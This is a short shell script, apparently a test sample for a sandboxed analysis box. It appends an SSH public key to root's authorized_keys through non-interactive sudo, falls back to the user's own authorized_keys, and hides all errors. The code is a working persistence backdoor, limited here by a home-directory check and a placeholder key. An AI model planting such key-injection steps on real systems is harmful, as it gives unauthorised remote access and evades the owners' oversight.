#!/bin/sh
# SPDX-License-Identifier: MIT
# Adds its key to root's authorized keys through sudo.
# Depends on the sudo stand-in for the sudo exec; without it the fallback
# shows the technique.
[ "$HOME" = /home/dana ] || { echo "run only inside sbxlua's analysis box" >&2; exit 1; }
key='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIExampleKeyOnly op@example'
echo "$key" | sudo -n tee -a /root/.ssh/authorized_keys > /dev/null 2>&1 || {
	mkdir -p "$HOME/.ssh"
	echo "$key" >> "$HOME/.ssh/authorized_keys"
}
exit 0
